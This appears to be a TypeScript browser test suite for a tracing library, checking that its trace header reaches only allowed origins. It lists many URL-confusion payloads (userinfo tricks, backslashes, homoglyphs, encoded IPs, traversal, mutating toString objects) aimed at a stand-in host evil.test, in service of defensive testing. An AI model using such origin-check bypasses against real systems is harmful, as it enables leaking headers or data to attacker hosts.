/**
 * Addresses made to get the trace to a host that it is not meant for, each by fetch and XMLHttpRequest; what counts is what
 * the servers received. Also what can't be prevented.
 */
import assert from 'node:assert/strict'
import { browserTest, openPage, pageWithHeadwater, sentryTrace, type Received, type Site, type Visitor } from './support/index.ts'

interface Attack {
  /** What is asked for, `P` standing for the server's port and `Q` for its other one. */
  url: string
  /** The host, without port, that the request goes to; undefined: to none. */
  to?: string | undefined
  carries?: true
}

const port = (origin: string): string => new URL(origin).port
const filled = ({ origin, otherOrigin }: Site, text: string): string =>
  text
    .replace(/\b0?P\b/g, match => match.replace('P', port(origin)))
    .replace(/\bP\b/g, port(origin))
    .replace(/\bQ\b/g, port(otherOrigin))

/** By the entry of `tracingOrigins`. */
const attacks: Record<string, Record<string, Attack>> = {
  "'api.test'": {
    'the host itself': { url: 'http://api.test:P/x', to: 'api.test', carries: true },
    'in capitals': { url: 'HTTP://API.TEST:P/x', to: 'api.test', carries: true },
    'a host below it': { url: 'http://eu.api.test:P/x', to: 'eu.api.test', carries: true },
    'another port of it': { url: 'http://api.test:Q/x', to: 'api.test', carries: true },
    'without a scheme': { url: '//api.test:P/x', to: 'api.test', carries: true },
    'backslashes for slashes': { url: '\\\\api.test:P\\x', to: 'api.test', carries: true },
    'tabs and line breaks inside': { url: ' ht\ntp://a\tpi.te\rst:P/x', to: 'api.test', carries: true },
    'full-width letters, which are the same': { url: 'http://ａｐｉ.test:P/x', to: 'api.test', carries: true },
    'an ideographic full stop, which is the same': { url: 'http://api。test:P/x', to: 'api.test', carries: true },
    'an escaped letter, which is the same': { url: 'http://%61pi.test:P/x', to: 'api.test', carries: true },
    'a soft hyphen, which is nothing': { url: 'http://a\u00adpi.test:P/x', to: 'api.test', carries: true },
    'another behind its fragment': { url: 'http://api.test:P#@evil.test:P/', to: 'api.test', carries: true },
    'another behind its query': { url: 'http://api.test:P?@evil.test:P/', to: 'api.test', carries: true },
    'another behind its backslash': { url: 'http://api.test:P\\@evil.test:P/', to: 'api.test', carries: true },
    'it as the user': { url: 'http://api.test@evil.test:P/x', to: 'evil.test' },
    'it as user and password': { url: 'http://api.test:P@evil.test:P/x', to: 'evil.test' },
    'it as the user, escaped': { url: 'http://api.test%2F@evil.test:P/x', to: 'evil.test' },
    'it behind a backslash': { url: 'http://evil.test:P\\@api.test:P/', to: 'evil.test' },
    'it behind a fragment': { url: 'http://evil.test:P#@api.test:P/', to: 'evil.test' },
    'it behind a query': { url: 'http://evil.test:P?@api.test:P/', to: 'evil.test' },
    'another without a scheme': { url: '//evil.test:P/api.test', to: 'evil.test' },
    'another behind backslashes': { url: '\\\\evil.test:P\\api.test', to: 'evil.test' },
    'another behind many slashes': { url: 'http:////evil.test:P/api.test', to: 'evil.test' },
    'another behind a slash and a tab': { url: '/\t/evil.test:P/api.test', to: 'evil.test' },
    'a longer host': { url: 'http://api.test.evil.test:P/x', to: 'api.test.evil.test' },
    'a longer host, by a tab': { url: 'http://api.test\t.evil.test:P/x', to: 'api.test.evil.test' },
    'a longer first label': { url: 'http://evilapi.test:P/x', to: 'evilapi.test' },
    'a hyphen before it': { url: 'http://evil-api.test:P/x', to: 'evil-api.test' },
    'an underscore before it': { url: 'http://evil_api.test:P/x', to: 'evil_api.test' },
    'a hyphen for the dot': { url: 'http://api-test.evil.test:P/x', to: 'api-test.evil.test' },
    'a dot at its end': { url: 'http://api.test.:P/x', to: 'api.test.' },
    'the host above it': { url: 'http://www.test:P/x', to: 'www.test' },
    'a Cyrillic letter': { url: 'http://аpi.test:P/x', to: 'xn--pi-6kc.test' },
    'an accent': { url: 'http://ápi.test:P/x', to: new URL('http://ápi.test').hostname },
    'a joiner inside': { url: 'http://a\u200dpi.test:P/x' },
    'its name as a path': { url: 'http://evil.test:P/api.test', to: 'evil.test' },
    'its address as a path': { url: 'http://evil.test:P/http://api.test:P/', to: 'evil.test' },
    'its name in the query': { url: 'http://evil.test:P/?x=api.test', to: 'evil.test' },
    'its name in the fragment': { url: 'http://evil.test:P/#/api.test', to: 'evil.test' },
    'its name as a parameter of the path': { url: 'http://evil.test:P/;api.test', to: 'evil.test' },
    'a NUL in the host': { url: 'http://evil.test\0api.test:P/x' },
    'a space in the host': { url: 'http://evil.test api.test:P/x' },
    'an escaped slash in the host': { url: 'http://evil.test%2fapi.test:P/x' },
    data: { url: 'data:text/plain,api.test' },
    script: { url: 'javascript:"api.test"' },
    'a file': { url: 'file:///api.test' },
    'a scheme of its own': { url: 'httpx://api.test:P/x' },
  },
  "'api.test:P'": {
    'its port': { url: 'http://api.test:P/x', to: 'api.test', carries: true },
    'another port': { url: 'http://api.test:Q/x', to: 'api.test' },
    'its port with zeros': { url: 'http://api.test:0P/x', to: 'api.test', carries: true },
    'its port as the password': { url: 'http://api.test:P@evil.test:P/x', to: 'evil.test' },
  },
  "'http://api.test:P/v1'": {
    'below it': { url: 'http://api.test:P/v1/x', to: 'api.test', carries: true },
    'a way to it': { url: 'http://api.test:P/v2/../v1/x', to: 'api.test', carries: true },
    'an escaped letter, which is another path': { url: 'http://api.test:P/%761/x', to: 'api.test' },
    'two dots': { url: 'http://api.test:P/v1/../evil', to: 'api.test' },
    'two dots, escaped': { url: 'http://api.test:P/v1/%2e%2E/evil', to: 'api.test' },
    'two dots behind a backslash': { url: 'http://api.test:P/v1\\..\\evil', to: 'api.test' },
    'two dots with a tab': { url: 'http://api.test:P/v1/.\t./evil', to: 'api.test' },
    'escaped slashes': { url: 'http://api.test:P/v1%2f..%2fevil', to: 'api.test' },
    'a longer segment': { url: 'http://api.test:P/v1evil/x', to: 'api.test' },
    'in capitals': { url: 'http://api.test:P/V1/x', to: 'api.test' },
    'behind another slash': { url: 'http://api.test:P//v1/x', to: 'api.test' },
    'in the query': { url: 'http://api.test:P/?/v1/x', to: 'api.test' },
    'on a host below': { url: 'http://eu.api.test:P/v1/x', to: 'eu.api.test' },
    // For the browser that is a name of a segment. A server that takes it for two dots has a fault of its own.
    'two dots and a semicolon': { url: 'http://api.test:P/v1/..;/evil', to: 'api.test', carries: true },
  },
  "'127.0.0.1'": {
    'as one number': { url: 'http://2130706433:Q/x', to: '127.0.0.1', carries: true },
    'in hexadecimal': { url: 'http://0x7f000001:Q/x', to: '127.0.0.1', carries: true },
    'in octal': { url: 'http://0177.0.0.01:Q/x', to: '127.0.0.1', carries: true },
    'with parts left out': { url: 'http://127.1:Q/x', to: '127.0.0.1', carries: true },
    'in full-width digits': { url: 'http://１２７.0.0.1:Q/x', to: '127.0.0.1', carries: true },
    'as a part of a name': { url: 'http://127.0.0.1.evil.test:Q/x', to: '127.0.0.1.evil.test' },
    'as the user': { url: 'http://127.0.0.1@evil.test:Q/x', to: 'evil.test' },
    'another address': { url: 'http://127.0.0.11:Q/x' },
  },
  '/^http:\\/\\/api\\.test:P\\//': {
    'the host itself': { url: 'http://api.test:P/x', to: 'api.test', carries: true },
    'it as the user': { url: 'http://api.test:P/@evil.test', to: 'api.test', carries: true },
    'it as user and password': { url: 'http://api.test:P@evil.test:P/x', to: 'evil.test' },
    'in the query': { url: 'http://evil.test:P/?http://api.test:P/', to: 'evil.test' },
  },
}

/** Sends by both ways and waits until both are over, however. */
const ask = ({ page }: Visitor, url: string): Promise<void> =>
  page.evaluate(async url => {
    await fetch(url)
      .then(response => response.text())
      .catch(() => {})
    const xhr = new XMLHttpRequest()
    await new Promise<unknown>(resolve => {
      xhr.onloadend = resolve
      try {
        xhr.open('GET', url)
        xhr.send()
      } catch (error) {
        resolve(error)
      }
    })
  }, url)

const asked = (site: Site, first: number): Received[] =>
  site.requests.slice(first).filter(({ method, path }) => method !== 'OPTIONS' && !path.startsWith('/api/1/'))

const entries = Object.keys(attacks)
browserTest(
  'the header reaches the hosts that were meant, and no other',
  {
    cors: 'any',
    testTimeout: 120_000,
    pages: Object.fromEntries(
      entries.map((entry, index) => [
        `/${index}`,
        (site: Site, request: Received) => {
          const page = pageWithHeadwater({ as: 'module', sampleRate: 0, options: `tracingOrigins: [${filled(site, entry)}]` })
          return typeof page === 'string' ? page : page(site, request)
        },
      ]),
    ),
  },
  async (site, t) => {
    for (const [index, entry] of entries.entries()) {
      const visitor = await openPage(site, `/${index}`)
      for (const [name, { url, to, carries = false }] of Object.entries(attacks[entry]!)) {
        await t.test(`${entry}: ${name}`, async () => {
          const first = site.requests.length
          await ask(visitor, filled(site, url))
          const requests = asked(site, first)
          // fetch refuses credentials in an address.
          const count = to === undefined ? [0] : /^[^/]*\/\/[^/?#\\]*@/.test(url) ? [1] : [2]
          assert.ok(count.includes(requests.length), `${requests.length} requests`)
          for (const request of requests) {
            assert.equal(request.headers.host!.replace(/:\d+$/, ''), to)
            assert.equal(!!sentryTrace(request), carries, request.url)
          }
        })
      }
    }
  },
)

/** Calls whose address is not what it seems, as JavaScript of the page: `api` may get the header, `evil` never. */
const tricks: Record<string, [run: string, ...received: [path: string, carries: boolean][]]> = {
  'a Request': ['await fetch(new Request(api)); await fetch(new Request(evil))', ['/api', true], ['/evil', false]],
  'a Request whose class says another address': [
    'class Mine extends Request { get url() { return api } }; await fetch(new Mine(evil))',
    ['/evil', false],
  ],
  'a Request with a member that says another address': [
    "const request = new Request(evil); Object.defineProperty(request, 'url', { value: api }); await fetch(request)",
    ['/evil', false],
  ],
  'an object that looks like a Request': ['await fetch({ url: api, toString: () => evil })', ['/evil', false]],
  'a URL': [
    'await fetch(new URL(api)); await xhr(new URL(api)); await xhr(new URL(evil))',
    ['/api', true],
    ['/api', true],
    ['/evil', false],
  ],
  'a URL whose text is another': [
    'const url = Object.assign(new URL(api), { toString: () => evil }); await fetch(url); await xhr(url)',
    ['/evil', false],
    ['/evil', false],
  ],
  'a text that changes when it is read again': ['await fetch(changing({})); await xhr(changing({}))', ['/api', true], ['/api', true]],
  'a text that changes when it is read again, the other way round': [
    'await fetch(changing({}, evil, api)); await xhr(changing({}, evil, api))',
    ['/evil', false],
    ['/evil', false],
  ],
  'a function whose text changes': [
    'await fetch(changing(() => {}, evil, api)); await xhr(changing(() => {}, evil, api))',
    ['/evil', false],
    ['/evil', false],
  ],
  'a URL changed after the call': [
    'const url = new URL(api); const sent = fetch(url); url.href = evil; await sent; await xhr(new URL(api), (url) => { url.href = evil })',
    ['/api', true],
    ['/api', true],
  ],
  'a base that changes after the call': [
    `const base = document.head.appendChild(document.createElement('base')); base.href = new URL('/', api).href
     await xhr('evil-or-api', () => { base.href = new URL('/', evil).href }); base.remove()`,
    ['/evil-or-api', true],
  ],
  'a base that changes while the call is read': [
    `const base = document.head.appendChild(document.createElement('base')); base.href = new URL('/', api).href
     await fetch('read', { get method() { base.href = new URL('/', evil).href; return 'GET' } }); base.remove()`,
    ['/read', false],
  ],
  'an address changed by opening again': [
    "await xhr(api, (_, request) => request.open('GET', evil)); await xhr(evil, (_, request) => request.open('GET', api))",
    ['/evil', false],
    ['/api', true],
  ],
  'no-cors': ["await fetch(api, { mode: 'no-cors' })", ['/api', false]],
  'no-cors of a Request': ["await fetch(new Request(api, { mode: 'no-cors' }))", ['/api', false]],
  'no-cors when it is read again': [
    "let reads = 0; await fetch(api, { get mode() { return reads++ ? 'no-cors' : 'cors' } })",
    ['/api', true],
  ],
  'presigned addresses': [
    "for (const key of ['X-Amz-Signature', 'X-Goog-Signature', 'Signature', 'sig', 'x-amz-signature']) await fetch(api + '?a=b&' + key + '=c')",
    ...(Array(5).fill(['/api', false]) as ['/api', false][]),
  ],
  'a blob': ["const url = URL.createObjectURL(new Blob(['x'])); await fetch(url); await xhr(url)"],
  'a getter of headers that answers ours': ['await fetch(evil, { headers: Headwater.getTraceHeaders(evil) })', ['/evil', false]],
}

const trickPage = pageWithHeadwater({ as: 'module', sampleRate: 0, options: `tracingOrigins: ['api.test']` })

browserTest('what an address is does not depend on when it is read', { pages: { '/': trickPage }, cors: 'any' }, async (site, t) => {
  const { page } = await openPage(site, '/')
  for (const [name, [run, ...expected]] of Object.entries(tricks)) {
    await t.test(name, async () => {
      const first = site.requests.length
      await page.evaluate(`(async () => {
        const api = 'http://api.test:${port(site.origin)}/api', evil = 'http://evil.test:${port(site.origin)}/evil'
        const changing = (object, ...texts) => {
          texts = texts.length ? texts : [api, evil]
          let reads = 0
          object.toString = () => texts[Math.min(reads++, 1)]
          return object
        }
        const xhr = (url, before) => new Promise((resolve) => {
          const request = new XMLHttpRequest()
          request.onloadend = resolve
          request.open('GET', url)
          before?.(url, request)
          request.send()
        })
        ${run}
      })()`)
      assert.deepEqual(
        asked(site, first).map(request => [request.path, !!sentryTrace(request)]),
        expected,
      )
    })
  }
})

browserTest(
  'what can not be prevented: a redirect that the browser follows carries the header to whoever allows it',
  {
    pages: { '/': trickPage },
    cors: 'any',
  },
  async site => {
    const visitor = await openPage(site, '/')
    const evil = `http://evil.test:${port(site.origin)}/evil`
    await ask(visitor, `http://api.test:${port(site.origin)}/api/redirect?to=${encodeURIComponent(evil)}`)
    const received = asked(site, 0).filter(({ path }) => path === '/evil')
    assert.deepEqual(
      received.map(request => !!sentryTrace(request)),
      [true, true],
    )
    // Nor does the other way round make it appear.
    await ask(
      visitor,
      `http://evil.test:${port(site.origin)}/api/redirect?to=${encodeURIComponent(`http://api.test:${port(site.origin)}/api`)}`,
    )
    assert.deepEqual(
      asked(site, 0)
        .filter(({ path }) => path === '/api')
        .map(request => !!sentryTrace(request)),
      [false, false],
    )
  },
)

browserTest(
  'what can not be prevented: code of the page that changes the address below us',
  {
    pages: {
      '/': pageWithHeadwater({
        as: 'module',
        sampleRate: 0,
        options: `tracingOrigins: ['api.test']`,
        head: `<script>
        const native = fetch
        window.fetch = (input, init) => native(String(input).replace('api.test', 'evil.test'), init)
      </script>`,
      }),
    },
    cors: 'any',
  },
  async site => {
    const { page } = await openPage(site, '/')
    await page.evaluate(url => fetch(url).then(({ status }) => status), `http://api.test:${port(site.origin)}/api/json`)
    const [request] = asked(site, 0).filter(({ path }) => path === '/api/json')
    assert.deepEqual([new URL(request!.url).hostname, !!sentryTrace(request!)], ['evil.test', true])
  },
)
